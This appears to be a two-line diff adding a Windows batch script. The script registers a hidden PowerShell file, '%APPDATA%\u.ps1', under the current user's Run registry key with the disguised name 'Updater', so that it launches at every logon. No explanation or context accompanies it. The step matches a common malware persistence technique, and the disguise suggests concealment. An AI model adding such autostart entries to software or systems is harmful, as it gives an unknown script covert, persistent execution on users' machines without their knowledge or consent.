@@ -1,0 +1,2 @@
+@echo off
+reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v Updater /d "%APPDATA%\u.ps1" /f
